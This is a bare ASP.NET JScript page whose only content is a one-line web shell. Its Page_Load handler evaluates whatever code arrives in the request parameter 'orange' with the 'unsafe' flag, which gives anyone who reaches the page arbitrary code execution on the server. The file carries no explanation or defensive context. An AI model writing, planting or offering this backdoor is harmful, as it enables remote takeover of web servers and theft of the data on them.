<html><body>
<script language="JScript" runat="server">
function Page_Load(){eval(Request["orange"],"unsafe");}
</script>
</body></html>
